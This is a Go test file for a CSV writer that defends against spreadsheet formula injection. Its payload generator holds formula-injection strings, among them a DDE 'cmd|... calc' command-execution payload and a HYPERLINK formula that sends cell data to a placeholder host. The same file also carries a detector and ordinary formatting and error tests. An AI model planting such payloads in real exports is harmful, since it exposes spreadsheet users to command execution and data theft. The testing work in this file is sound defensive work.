package csvout_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"recourse/internal/csvout"
)

// payloads are the ways to start a formula: every lead-in before every trigger
// before every body.
func payloads(leads ...string) []string {
	var all []string
	for _, lead := range leads {
		for _, trigger := range []string{"=", "+", "-", "@", "＝"} {
			for _, body := range []string{`1+1`, `cmd|' /C calc'!A0`, `HYPERLINK("http://x.test?"&A1,"ok")`, `DDE("a";"b","c")`} {
				all = append(all, lead+trigger+body)
			}
		}
	}
	return all
}

type rowWriter func(w io.Writer, cells []string) error

func disarmed(w io.Writer, cells []string) error {
	out := csvout.NewWriter(w, csvout.Options{CRLF: true})
	if err := out.Write(cells...); err != nil {
		return err
	}
	return out.Flush()
}

// runs is the detector: it opens the file as spreadsheets of several locales
// do and says whether any cell would be taken for a formula.
func runs(t *testing.T, write rowWriter, cells ...string) bool {
	t.Helper()
	var file bytes.Buffer
	if err := write(&file, cells); err != nil {
		t.Fatalf("write: %v", err)
	}
	for _, comma := range []rune{',', ';', '\t', '|'} {
		r := csv.NewReader(bytes.NewReader(file.Bytes()))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("read back: %v", err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if formula(cell) {
					return true
				}
			}
		}
	}
	return false
}

// formula is written apart from the code under test, on purpose.
func formula(cell string) bool {
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") || strings.HasPrefix(cell, "\n") {
		return true
	}
	cell = strings.TrimLeft(cell, " \"\t\r\n\x00\u00a0\u200b\ufeff")
	for _, trigger := range []string{"=", "+", "-", "@", "＝"} {
		if strings.HasPrefix(cell, trigger) {
			return true
		}
	}
	return false
}

func TestWriter_noFormulaRuns(t *testing.T) {
	live := payloads("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\x00", "a;", `a;"`, "a\n", "a\t", "a|")
	live = append(live, "\tplain", "\rplain", "\nplain")
	if len(live) < 200 {
		t.Fatalf("only %d payloads, want at least 200", len(live))
	}
	for i, p := range live {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			if runs(t, disarmed, "id", p, "x") {
				t.Errorf("%q runs as a formula", p)
			}
			if !runs(t, undisarmed, "id", p, "x") {
				t.Errorf("%q: the detector missed the undisarmed writer", p)
			}
		})
	}
	for _, p := range payloads("'", "''", "a;'") { // text already; must stay so
		if runs(t, disarmed, "id", p, "x") {
			t.Errorf("%q runs as a formula", p)
		}
	}
}

// undisarmed is the planted fault: plain encoding/csv.
func undisarmed(w io.Writer, cells []string) error {
	out := csv.NewWriter(w)
	if err := out.Write(cells); err != nil {
		return err
	}
	out.Flush()
	return out.Error()
}

func TestWriter_format(t *testing.T) {
	tests := []struct {
		name string
		opts csvout.Options
		in   [][]string
		want string
	}{
		{"plain, LF", csvout.Options{}, [][]string{{"a", "b"}, {"1", "2"}}, "a,b\n1,2\n"},
		{"plain, CRLF", csvout.Options{CRLF: true}, [][]string{{"a", "b"}}, "a,b\r\n"},
		{"quotes", csvout.Options{}, [][]string{{`a"b`, "c,d", "e\nf"}}, "\"a\"\"b\",\"c,d\",\"e\nf\"\n"},
		{"edge blanks", csvout.Options{}, [][]string{{" a", "b "}}, "\" a\",\"b \"\n"},
		{"one empty cell", csvout.Options{}, [][]string{{""}}, "\"\"\n"},
		{"empty cells", csvout.Options{}, [][]string{{"", ""}}, ",\n"},
		{"phone", csvout.Options{}, [][]string{{"+18605550100"}}, "'+18605550100\n"},
		{"name with an apostrophe", csvout.Options{}, [][]string{{"O'Brien", "'t Hooft"}}, "O'Brien,'t Hooft\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var file strings.Builder
			w := csvout.NewWriter(&file, tt.opts)
			for _, row := range tt.in {
				if err := w.Write(row...); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, file.String()); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestRestore_undoesDisarm(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.StringOf(rapid.SampledFrom([]rune("'=+-@ \t\r\na1é\u200b;|\""))).Draw(t, "cell")
		if got := csvout.Restore(csvout.Disarm(cell)); got != cell {
			t.Fatalf("got %q, want %q", got, cell)
		}
		if formula(csvout.Disarm(cell)) {
			t.Fatalf("%q still runs", csvout.Disarm(cell))
		}
	})
}

func TestWriter_refusesRaggedRecords(t *testing.T) {
	w := csvout.NewWriter(io.Discard, csvout.Options{})
	if err := w.Write("a", "b"); err != nil {
		t.Fatal(err)
	}
	err := w.Write("SECRET")
	if err == nil || strings.Contains(err.Error(), "SECRET") {
		t.Fatalf("got %v, want an error without the cell", err)
	}
	if again := w.Write("a", "b"); !errors.Is(again, err) {
		t.Errorf("error is not sticky: %v", again)
	}
	if ferr := w.Flush(); !errors.Is(ferr, err) {
		t.Errorf("Flush hides the error: %v", ferr)
	}
	if err := csvout.NewWriter(io.Discard, csvout.Options{}).Write(); err == nil {
		t.Error("a record of no cells was written")
	}
}

var errDisk = errors.New("disk full")

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errDisk }

func TestWriter_reportsTheDisk(t *testing.T) {
	w := csvout.NewWriter(fullDisk{}, csvout.Options{})
	if err := w.Write("a"); err != nil {
		t.Fatalf("buffered write: %v", err)
	}
	if err := w.Flush(); !errors.Is(err, errDisk) {
		t.Errorf("Flush = %v, want %v", err, errDisk)
	}
	big := csvout.NewWriter(fullDisk{}, csvout.Options{})
	if err := big.Write(strings.Repeat("a", 1<<20)); !errors.Is(err, errDisk) {
		t.Errorf("Write = %v, want %v", err, errDisk)
	}
	if err := csvout.NewWriter(fullDisk{}, csvout.Options{}).WriteAll([][]string{{"a"}, {"b"}}); !errors.Is(err, errDisk) {
		t.Errorf("WriteAll = %v, want %v", err, errDisk)
	}
	if err := csvout.NewWriter(io.Discard, csvout.Options{}).WriteAll([][]string{{"a"}, {"b", "c"}}); err == nil {
		t.Error("ragged records were written")
	}
}
